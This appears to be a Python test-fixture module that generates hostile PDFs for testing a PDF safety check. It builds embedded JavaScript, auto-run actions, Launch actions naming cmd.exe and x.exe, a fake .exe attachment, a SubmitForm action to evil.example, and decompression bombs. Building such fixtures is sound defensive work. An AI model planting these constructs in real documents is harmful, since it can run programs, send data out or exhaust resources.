"""A corpus of hostile PDFs, generated here (reportlab page + pypdf objects): each kind of active content,
and bombs (inflating content, too many pages)."""

from __future__ import annotations

import io
import zlib

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    StreamObject,
    TextStringObject,
)
from reportlab.pdfgen.canvas import Canvas


def plain_pdf(text: str = "Bilaga", pages: int = 1) -> bytes:
    buffer = io.BytesIO()
    canvas = Canvas(buffer)
    for number in range(pages):
        canvas.drawString(72, 720, f"{text} {number + 1}")
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _writer() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf("Fientlig"))))


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject("/" + key)] = TextStringObject(value)
    return action


def _link(writer: PdfWriter, action: DictionaryObject, subtype: str = "/Link") -> DictionaryObject:
    annotation = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(200), FloatObject(100)]),
        NameObject("/A"): action,
    })
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return annotation


def javascript_pdf() -> bytes:
    """A document-level script in the /Names /JavaScript tree."""
    writer = _writer()
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([
        TextStringObject("hej"), writer._add_object(_action("/JavaScript", JS="app.alert('hej');"))])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    return _written(writer)


def open_action_pdf() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.launchURL('http://x');")
    return _written(writer)


def launch_pdf() -> bytes:
    writer = _writer()
    _link(writer, _action("/Launch", F="cmd.exe"))
    return _written(writer)


def page_aa_pdf() -> bytes:
    writer = _writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="this.print();")})
    return _written(writer)


def catalog_aa_pdf() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _action("/Launch", F="x.exe")})
    return _written(writer)


def embedded_file_pdf() -> bytes:
    writer = _writer()
    writer.add_attachment("faktura.exe", b"MZ\x90\x00 not really a program")
    return _written(writer)


def file_attachment_annotation_pdf() -> bytes:
    writer = _writer()
    annotation = _link(writer, _action("/GoTo"), subtype="/FileAttachment")
    del annotation["/A"]
    return _written(writer)


def submit_form_pdf() -> bytes:
    writer = _writer()
    _link(writer, _action("/SubmitForm", F="http://evil.example/"))
    return _written(writer)


ACTIVE = {
    "javascript": javascript_pdf, "open-action": open_action_pdf, "launch": launch_pdf, "page-aa": page_aa_pdf,
    "catalog-aa": catalog_aa_pdf, "embedded-file": embedded_file_pdf,
    "file-attachment-annotation": file_attachment_annotation_pdf, "submit-form": submit_form_pdf,
}


def inflating_pdf(unpacked_mb: int = 300) -> bytes:
    """A small file whose page content inflates to ``unpacked_mb`` MB (made piecewise, never in memory)."""
    deflater = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    packed = b"".join(deflater.compress(chunk) for _ in range(unpacked_mb)) + deflater.flush()
    writer = _writer()
    stream = StreamObject()
    stream._data = packed
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
    return _written(writer)


def many_pages_pdf(pages: int) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    return _written(writer)
